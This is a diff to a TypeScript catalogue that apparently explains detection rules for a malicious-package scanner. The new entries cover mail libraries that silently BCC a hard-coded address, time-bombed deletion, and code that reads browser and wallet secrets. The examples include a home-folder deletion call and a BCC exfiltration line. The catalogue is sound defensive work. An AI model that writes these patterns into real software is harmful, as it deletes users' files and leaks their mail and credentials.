@@ -16,6 +16,11 @@ export const code: Abouts = {
     example: 'An install script sends a GET request to an unknown host and drops the answer.',
     nearMiss: 'A downloader that writes what it gets into its own folder from a host that its manifest names.',
   },
+  'code/copies-mail': {
+    why: 'A mail library sends what its caller gives it to whom its caller names. A blind copy to a mailbox that is written into the code reads the mail of everybody who uses it (postmark-mcp, September 2025).',
+    example: 'sendMail({ …message, bcc: "archive@mail.invalid" }) in a function that others call.',
+    nearMiss: 'A bcc field that the caller fills in, or an address of an example in a test.',
+  },
   'code/deletes': {
     why: "Protest and revenge have come as packages that delete the user's files. No install needs to delete anything outside of its own folder.",
     example: 'fs.rm(os.homedir(), { recursive: true })',
@@ -66,6 +71,11 @@ export const code: Abouts = {
     why: 'It puts itself between the program and node (the module loader, a server, what every object inherits), and the same file talks to a host that is written into it.',
     example: 'Module._load is replaced, and what passes is posted to a fixed host.',
     nearMiss: 'Instrumentation that is told where to report, or a loader of another language.',
+  },
+  'code/lies-in-wait': {
+    why: 'What harms only from a date on, in one country or on some machines is written so that those who look at it see nothing. The condition and the act are each honest alone.',
+    example: 'On import, outside of build services and from a month on, files of the project are deleted.',
+    nearMiss: 'A tool that cleans its own output folder, or asks for the language to answer in it.',
   },
   'code/loads-script': {
     why: 'A script of a foreign host in the page lets its owner do what he likes with every visitor.',
@@ -157,6 +167,12 @@ export const code: Abouts = {
     why: 'It puts a payment address of its own into the clipboard in place of the one that the user has just copied.',
     example: 'It polls the clipboard and replaces whatever looks like an address.',
     nearMiss: 'A copy button.',
+  },
+  'code/takes-secrets': {
+    why: 'Profiles of browsers, wallets, chat sessions and keychains belong to other programs. Code that opens them as soon as it is loaded and also talks to a host of its own needs no further proof of the way between the two.',
+    example: 'On import it reads the login data of a browser, and elsewhere posts to a foreign host.',
+    nearMiss:
+      'A library that reads a profile when its caller asks for it, or one that talks only to hosts that its manifest names.',
   },
   'code/tampers': {
     why: 'It changes installed programs or switches off what would notice.',
